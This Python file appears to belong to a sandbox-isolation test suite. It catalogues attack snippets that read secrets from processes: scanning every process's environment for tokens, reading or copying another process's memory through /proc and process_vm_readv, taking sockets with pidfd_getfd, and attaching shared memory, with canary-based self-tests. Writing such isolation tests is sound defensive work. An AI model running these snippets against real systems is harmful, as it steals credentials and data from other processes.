"""Attacks that read from processes: environments, memory, what they hold open, and what they were forked with."""

from __future__ import annotations

import os
import tempfile

from attacks.attack import Attack, Control, Facts, Group
from attacks.catalogue.tools import attack, run_plainly


def _memory_is_searched() -> None:
    """A process that was started with a secret in its environment finds it in its own memory."""
    secret = f"CANARY-environment-{'0' * 32}"
    assert Facts.LOOT in run_plainly(OWN_MEMORY, {}, {**os.environ, "TOKEN": secret})


def _descriptors_are_searched() -> None:
    """A process that inherited an open file reads it."""
    with tempfile.TemporaryFile() as file:
        file.write(b"a secret")
        file.seek(0)
        assert Facts.LOOT in run_plainly(INHERITED_DESCRIPTORS, {}, os.environ, (file.fileno(),))


def _mappings_are_searched() -> None:
    """A shared mapping of a parent is found."""
    plain = Attack(
        SHARED_MAPPINGS.name,
        SHARED_MAPPINGS.group,
        SHARED_MAPPINGS.title,
        Control.OWN,
        cells=("import mmap\nshared = mmap.mmap(-1, 4096)", *SHARED_MAPPINGS.cells),
    )
    assert Facts.LOOT in run_plainly(plain, {}, os.environ)


OWN_MEMORY = attack(
    "reads_own_memory",
    Group.READS,
    "searches its own memory and environment for what the grader left there",
    r"""
attempt(
    lambda: secrets_in("self"),
    lambda: SECRET.findall(read("/proc/self/environ")),
    lambda: SECRET.findall(str(dict(os.environ)).encode()),
)
""",
    control=Control.OWN,
    succeeds=_memory_is_searched,
)

INHERITED_DESCRIPTORS = attack(
    "reads_inherited_descriptors",
    Group.READS,
    "reads whatever files were left open for it",
    r"""
def open_files():
    found = []
    for number in range(3, 256):
        try:
            status = os.fstat(number)
        except OSError:
            continue
        where = os.readlink(f"/proc/self/fd/{number}") if os.path.exists("/proc/self/fd") else "?"
        if stat.S_ISDIR(status.st_mode) or stat.S_ISREG(status.st_mode) and not where.startswith("/memfd:"):
            found.append((number, where))
    return found

attempt(open_files)
""",
    control=Control.OWN,
    succeeds=_descriptors_are_searched,
)

SHARED_MAPPINGS = attack(
    "reads_shared_mappings",
    Group.READS,
    "looks for memory that it shares with the process it was forked from",
    r"""
def shared_and_writable():
    with open("/proc/self/maps") as maps:
        return [line.strip() for line in maps if re.match(r"\S+ .w.s ", line)]

attempt(shared_and_writable)
""",
    control=Control.OWN,
    succeeds=_mappings_are_searched,
)

ATTACKS: tuple[Attack, ...] = (
    attack(
        "reads_environments",
        Group.READS,
        "reads the environment of every process, tokens and all",
        r"""
def tokens():
    found = set()
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                found |= set(SECRET.findall(file.read()))
        except OSError:
            pass
    return found

attempt(tokens, lambda: SECRET.findall(read("/proc/@victim_pid@/environ")))
""",
    ),
    attack(
        "reads_processes",
        Group.READS,
        "finds out from other processes where the course lies and what runs",
        r"""
def folders():
    found = set()
    for path in glob.glob("/proc/[0-9]*"):
        try:
            found.add(os.readlink(path + "/cwd"))
        except OSError:
            pass
    return [each for each in found if each == "@course@"]

attempt(
    folders,
    lambda: read("/proc/@victim_pid@/cmdline"),
    lambda: os.listdir("/proc/@victim_pid@/task"),
)
""",
    ),
    attack(
        "reads_memory_of_others",
        Group.READS,
        "reads another process's memory through /proc",
        r"""
attempt(lambda: secrets_in(@victim_pid@))
""",
    ),
    attack(
        "copies_memory_of_others",
        Group.READS,
        "copies another process's memory with process_vm_readv",
        r"""
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def copied():
    buffer = ctypes.create_string_buffer(64)
    here = Vector(ctypes.cast(buffer, ctypes.c_void_p), 64)
    with open("/proc/@victim_pid@/maps") as maps:
        first = int(next(line for line in maps if " rw-p " in line).split("-")[0], 16)
    there = Vector(first, 64)
    return syscall("process_vm_readv", @victim_pid@, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)

attempt(copied)
""",
    ),
    attack(
        "reads_open_files_of_others",
        Group.READS,
        "opens what another process holds open, deleted files too",
        r"""
def deleted():
    found = set()
    for path in glob.glob("/proc/@victim_pid@/fd/*"):
        try:
            if stat.S_ISREG(os.stat(path).st_mode):
                found |= set(SECRET.findall(read(path)))
        except OSError:
            pass
    return found

attempt(deleted)
""",
    ),
    attack(
        "takes_descriptors_of_others",
        Group.READS,
        "takes an open socket out of another process with pidfd_getfd",
        r"""
attempt(lambda: [syscall("pidfd_getfd", os.pidfd_open(@victim_pid@), number, 0) for number in (3, 4, 5)])
""",
    ),
    attack(
        "reads_through_roots",
        Group.READS,
        "goes through the root and working folders of other processes",
        r"""
attempt(
    lambda: read("/proc/@victim_pid@/root@home_canary@"),
    lambda: os.listdir("/proc/@victim_pid@/cwd"),
    lambda: read(f"/proc/{os.getppid()}/root@home_canary@"),
)
""",
    ),
    attack(
        "reads_shared_memory",
        Group.READS,
        "attaches shared memory of other processes",
        r"""
def posix():
    return SECRET.findall(b"".join(read(path) for path in glob.glob("/dev/shm/fortress-*")))

def system_v():
    libc.shmat.restype = ctypes.c_void_p
    number = libc.shmget(0x5EC2E7, 0, 0)
    if number < 0:
        raise failed()
    address = libc.shmat(number, None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        raise failed()
    return SECRET.findall(ctypes.string_at(address, 64))

attempt(posix, system_v)
""",
    ),
    OWN_MEMORY,
    INHERITED_DESCRIPTORS,
    SHARED_MAPPINGS,
)
